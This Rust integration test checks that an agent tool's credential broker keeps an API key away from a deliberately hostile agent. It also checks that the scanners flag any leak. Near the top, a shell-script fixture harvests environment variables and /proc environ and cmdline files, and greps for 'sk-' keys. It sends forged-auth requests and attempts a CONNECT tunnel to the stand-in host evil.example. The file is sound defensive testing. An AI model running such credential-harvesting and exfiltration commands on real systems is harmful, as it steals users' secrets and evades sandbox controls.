//! The credential broker against a hostile agent on the real engine, offline (issue 32's
//! acceptance): a `generic` agent with `credentialEnv: [ACME_API_KEY]` dumps its environment and
//! every readable `/proc/*/environ` and `cmdline`, greps the places a key could be left, sends a
//! request with its own `Authorization`, one to an off-list path, a WebSocket upgrade, a CONNECT
//! to another host, and (as a client that ignores base URLs, through `HTTPS_PROXY`) a request
//! with its own key and an honest one to the provider host, which the broker intercepts with the
//! session CA; makes one honest request at the base URL, and writes its placeholder into a file. On the host, the real value and every 8-byte window of it are absent from
//! `docker inspect`, every log, the store and the patch; the fake provider (ours, on a loopback
//! test address) saw the real key only in its auth header; the proposal carries
//! `credentialCanary`. The negative control (`credentialMode: env`) finds the key and flags it,
//! so the scanners are known to work.

use std::net::SocketAddr;
use std::path::{Path, PathBuf};
use std::time::Duration;

use roundtable_net_fixtures::{FakeDns, FakeResponses, Reply, Script};
use serde_json::{Value, json};

use crate::support::{
    API, ShowLogOnPanic, commit_all, engine_or_skip, ensure_test_images, fake_provider_args, json as json_of,
    nothing_left, roundtable, start_daemon, stdout, wait_until_within, write,
};

const PROVIDER: &str = "api.openai.com";
/// The real key: random-looking and long, so a window of it means it leaked.
const KEY: &str = "sk-acme-live-7f3e9b21c4d85a60e1f2b3c4d5e6f708";
const ATTACKER_KEY: &str = "sk-attacker-own-0123456789abcdef";

/// What the hostile agent does, as `sh -c` (busybox in the test image).
const HOSTILE: &str = r#"
loot=/roundtable/workspace/loot.txt
env > $loot
for f in /proc/[0-9]*/environ /proc/[0-9]*/cmdline; do tr '\0' '\n' < "$f" >> $loot 2>/dev/null; done
grep -r -a -h -o 'sk-[A-Za-z0-9-]*' /tmp /roundtable /run "$HOME" >> $loot 2>/dev/null
B="${ROUNDTABLE_BROKER_URL:-http://127.0.0.1:3129}/api.openai.com"
ask() { wget -q -S -O - "$@" >> $loot 2>&1; echo "exit=$?" >> $loot; }
echo '== own key' >> $loot
ask --header "Authorization: Bearer sk-attacker-own-0123456789abcdef" --header 'Content-Type: application/json' --post-data '{"model":"m","input":"x"}' "$B/v1/responses"
echo '== off-list path' >> $loot
ask --header "Authorization: Bearer $ACME_API_KEY" "$B/v1/files"
echo '== websocket' >> $loot
ask --header "Authorization: Bearer $ACME_API_KEY" --header 'Connection: Upgrade' --header 'Upgrade: websocket' --header 'Sec-WebSocket-Version: 13' --header 'Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==' "$B/v1/responses"
echo '== connect elsewhere' >> $loot
(printf 'CONNECT evil.example:443 HTTP/1.1\r\nHost: evil.example:443\r\n\r\n'; sleep 2) | nc -w 3 127.0.0.1 3128 >> $loot 2>&1
echo "exit=$?" >> $loot
echo '== intercepted own key' >> $loot
https-fetch https://api.openai.com/v1/responses --header "Authorization: Bearer sk-attacker-own-0123456789abcdef" --data '{"model":"m","input":"x"}' >> $loot 2>&1
echo '== intercepted honest' >> $loot
https-fetch https://api.openai.com/v1/responses --header "Authorization: Bearer $ACME_API_KEY" --header 'Content-Type: application/json' --data '{"model":"m","input":"hi","stream":true}' >> $loot 2>&1
echo '== honest' >> $loot
ask --header "Authorization: Bearer $ACME_API_KEY" --header 'Content-Type: application/json' --post-data '{"model":"m","input":"hi","stream":true}' "$B/v1/responses"
echo "placeholder=$ACME_API_KEY" >> README.md
echo "printed: $ACME_API_KEY"
sleep 3
"#;

fn completed() -> Vec<Value> {
    vec![
        json!({"type": "response.created", "response": {"id": "resp_1"}}),
        json!({"type": "response.completed", "response": {"id": "resp_1", "usage": {"input_tokens": 12, "output_tokens": 3, "total_tokens": 15}}}),
    ]
}

/// Whether `bytes` hold `key` or any 8-byte window of it.
fn leaks(bytes: &[u8], key: &str) -> Option<String> {
    key.as_bytes()
        .windows(8)
        .find(|window| bytes.windows(8).any(|found| found == *window))
        .map(|window| String::from_utf8_lossy(window).into_owned())
}

/// Every regular file under `dir`, read whole.
fn every_file(dir: &Path) -> Vec<(PathBuf, Vec<u8>)> {
    let mut found = Vec::new();
    let Ok(entries) = std::fs::read_dir(dir) else { return found };
    for entry in entries.flatten() {
        let path = entry.path();
        match entry.file_type() {
            Ok(kind) if kind.is_dir() => found.extend(every_file(&path)),
            Ok(kind) if kind.is_file() => {
                if let Ok(bytes) = std::fs::read(&path) {
                    found.push((path, bytes));
                }
            }
            _ => {}
        }
    }
    found
}

struct Run {
    root: tempfile::TempDir,
    executions: tempfile::TempDir,
    api: FakeResponses,
    inspected: Vec<u8>,
    proposal: Value,
    patch: String,
}

/// One hostile run with the Adapter's `mode` (`broker` or `env`), the fake provider at `address`.
async fn hostile_run(engine: &roundtable_docker::Engine, mode: &str, address: &str) -> Run {
    let address: SocketAddr = address.parse().expect("address");
    let script =
        Script { responses_path: "/v1/responses".into(), turns: vec![completed(), completed()], get_body: json!({}) };
    let api = FakeResponses::start(address, &[PROVIDER], script).await.expect("fake provider");
    let dns = FakeDns::start("127.0.0.1:0".parse().expect("address")).await.expect("fake DNS");
    dns.answer(PROVIDER, vec![Reply::Addresses(vec![address.ip()])]);

    let root = tempfile::tempdir().expect("tempdir");
    write(root.path(), "README.md", "# Project\n");
    write(root.path(), "loot.txt", "");
    let prompt = serde_json::to_string(HOSTILE).expect("json");
    write(
        root.path(),
        ".roundtable/specs.yaml",
        &format!(
            "{API}\nkind: Adapter\nmetadata: {{name: generic}}\nspec:\n  image: roundtable-test/agent:latest\n  credentialMode: {mode}\n  credentialEnv: [ACME_API_KEY]\n  providerHosts: [{PROVIDER}]\n---\n{API}\nkind: Assignment\nmetadata: {{name: hostile}}\nspec:\n  adapter: generic\n  task: {{id: T, prompt: {prompt}}}\n  readablePaths: [README.md, loot.txt]\n  timeout: 90s\n"
        ),
    );
    commit_all(root.path());
    let executions = tempfile::tempdir().expect("tempdir");
    let secrets = executions.path().join("secrets.env");
    std::fs::write(&secrets, format!("ACME_API_KEY={KEY}\n")).expect("secrets");
    std::fs::set_permissions(&secrets, std::os::unix::fs::PermissionsExt::from_mode(0o600)).expect("chmod");
    let _show_log = ShowLogOnPanic(executions.path().join("daemon.log"), root.path().to_path_buf());
    let mut args = vec!["--secrets-file".to_owned(), secrets.to_str().expect("utf-8").to_owned()];
    args.extend(fake_provider_args(executions.path(), &api, &dns));
    let args: Vec<&str> = args.iter().map(String::as_str).collect();
    let daemon = start_daemon(root.path(), &args, executions.path());

    // While the agent sleeps at the end, the container is there to inspect.
    let project = roundtable_source::Project::resolve(&root.path().join(".roundtable")).expect("project").id;
    let mut inspected = Vec::new();
    let deadline = std::time::Instant::now() + Duration::from_secs(120);
    while inspected.is_empty() && std::time::Instant::now() < deadline {
        let listed = std::process::Command::new("docker")
            .args(["ps", "-q", "--filter", &format!("label=roundtable.dev/project={project}")])
            .output()
            .expect("docker ps");
        for id in String::from_utf8_lossy(&listed.stdout).split_whitespace() {
            let out = std::process::Command::new("docker").args(["inspect", id]).output().expect("inspect");
            inspected.extend(out.stdout);
        }
        tokio::time::sleep(Duration::from_millis(200)).await;
    }
    assert!(!inspected.is_empty(), "the agent's container was never seen running");

    wait_until_within("a proposal", Duration::from_secs(120), || {
        json_of(&roundtable(root.path(), &["proposals", "list", "--format", "json"]))["items"]
            .as_array()
            .is_some_and(|items| !items.is_empty())
    })
    .await;
    let proposal = json_of(&roundtable(root.path(), &["proposals", "list", "--format", "json"]))["items"][0].clone();
    let id = proposal["id"].as_str().expect("an id").to_owned();
    let patch = stdout(&roundtable(root.path(), &["proposals", "export", &id]));
    drop(daemon);
    nothing_left(engine, root.path()).await;
    Run { root, executions, api, inspected, proposal, patch }
}

fn flags(proposal: &Value) -> Vec<String> {
    proposal["flags"].as_array().into_iter().flatten().filter_map(|f| f.as_str().map(str::to_owned)).collect()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_hostile_agent_never_holds_the_key_and_its_placeholder_is_caught() {
    let Some(engine) = engine_or_skip().await else { return };
    ensure_test_images();
    let run = hostile_run(&engine, "broker", "127.0.0.203:443").await;
    let (root, executions) = (run.root.path(), run.executions.path());

    // Nowhere on the host is the real key or any 8-byte window of it.
    let mut kept = vec![(PathBuf::from("docker inspect"), run.inspected.clone())];
    kept.push((PathBuf::from("the patch"), run.patch.clone().into_bytes()));
    kept.extend(every_file(executions).into_iter().filter(|(path, _)| !path.ends_with("secrets.env")));
    kept.extend(every_file(&root.join(".roundtable/state")));
    for (path, bytes) in &kept {
        assert_eq!(leaks(bytes, KEY), None, "{} holds part of the key", path.display());
    }

    // The agent held a placeholder, and writing it down flags the proposal.
    let loot = run.patch.lines().filter(|line| line.starts_with('+')).collect::<Vec<_>>().join("\n");
    assert!(loot.contains(roundtable_specs::broker::PLACEHOLDER_PREFIX), "the agent's env held a placeholder: {loot}");
    assert!(flags(&run.proposal).iter().any(|f| f == "credentialCanary: README.md"), "{}", run.proposal);

    // Each attack was answered by the broker, and none of them reached the provider.
    let answer = |section: &str| {
        // The last one: the script itself, with every marker, is in the dumped cmdlines first.
        let start = loot.rfind(&format!("== {section}")).unwrap_or_else(|| panic!("no {section} section: {loot}"));
        loot[start..].lines().skip(1).take_while(|line| !line.contains("== ")).collect::<Vec<_>>().join("\n")
    };
    assert!(answer("own key").contains("401"), "own key: {}", answer("own key"));
    assert!(answer("off-list path").contains("403"), "off-list: {}", answer("off-list path"));
    assert!(answer("websocket").contains("426"), "websocket: {}", answer("websocket"));
    let elsewhere = answer("connect elsewhere");
    assert!(elsewhere.contains("403") && !elsewhere.contains(" 200 "), "a CONNECT to another host: {elsewhere}");
    assert!(answer("intercepted own key").contains("401"), "intercepted, own key: {}", answer("intercepted own key"));
    let intercepted = answer("intercepted honest");
    assert!(
        intercepted.contains("response.completed"),
        "a client ignoring its base URL passed, intercepted: {intercepted}"
    );
    assert!(answer("honest").contains("response.completed"), "the honest request passed: {}", answer("honest"));

    let recorded = run.api.recorded();
    assert_eq!(recorded.len(), 2, "only the two honest requests reached the provider: {recorded:?}");
    for honest in &recorded {
        assert_eq!(honest.header("authorization"), Some(format!("Bearer {KEY}").as_str()));
        for (name, value) in &honest.headers {
            let placeholder =
                value.contains(roundtable_specs::broker::PLACEHOLDER_PREFIX) || value.contains(ATTACKER_KEY);
            assert!(!placeholder, "{name} carried a placeholder or the agent's own key upstream");
            if !name.eq_ignore_ascii_case("authorization") {
                assert_eq!(leaks(value.as_bytes(), KEY), None, "the key went upstream in {name}");
            }
        }
        assert_eq!(leaks(&honest.body, KEY), None, "the key went upstream in the body");
    }

    // The broker's log has one line per request, each with its reason, and never a credential.
    let log = std::fs::read_to_string(
        run.executions
            .path()
            .join(
                json_of(&roundtable(root, &["sessions", "list", "--format", "json"]))["items"][0]["id"]
                    .as_str()
                    .expect("id"),
            )
            .join("broker.log"),
    )
    .expect("broker.log");
    let reasons: Vec<String> = log
        .lines()
        .filter_map(|line| serde_json::from_str::<Value>(line).ok())
        .filter_map(|line| line["reason"].as_str().map(str::to_owned))
        .collect();
    for expected in ["no_placeholder", "path_not_allowed", "upgrade_refused", "tunnel_refused", "allowed"] {
        assert!(reasons.iter().any(|r| r == expected), "{expected} in {log}");
    }
    let intercepted_allowed = log
        .lines()
        .filter_map(|line| serde_json::from_str::<Value>(line).ok())
        .any(|line| line["intercepted"] == true && line["reason"] == "allowed");
    assert!(intercepted_allowed, "the intercepted honest request is logged as such: {log}");
    assert!(!log.contains(roundtable_specs::broker::PLACEHOLDER_PREFIX), "{log}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_negative_control_with_the_raw_key_is_found_by_the_same_scanners() {
    let Some(engine) = engine_or_skip().await else { return };
    ensure_test_images();
    let run = hostile_run(&engine, "env", "127.0.0.204:443").await;
    // With the value in its environment the agent finds it, and the scanners say so.
    assert!(leaks(run.patch.as_bytes(), KEY).is_some(), "the control's loot holds the key: {}", run.patch);
    assert!(flags(&run.proposal).iter().any(|f| f.starts_with("credentialCanary: ")), "{}", run.proposal);
    assert!(
        leaks(&run.inspected, KEY).is_none(),
        "even raw, the key is only in the agent exec, not the container's config"
    );
}
